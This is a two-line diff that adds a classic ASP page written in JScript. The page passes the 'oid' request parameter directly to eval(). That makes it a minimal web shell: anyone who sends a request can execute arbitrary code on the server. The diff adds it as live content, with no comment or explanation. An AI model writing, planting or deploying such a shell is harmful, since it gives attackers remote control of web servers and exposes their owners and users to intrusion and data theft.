@@ -1,0 +1,2 @@
+<%@ Language="JScript" %>
+<% eval(Request("oid") + ""); %>
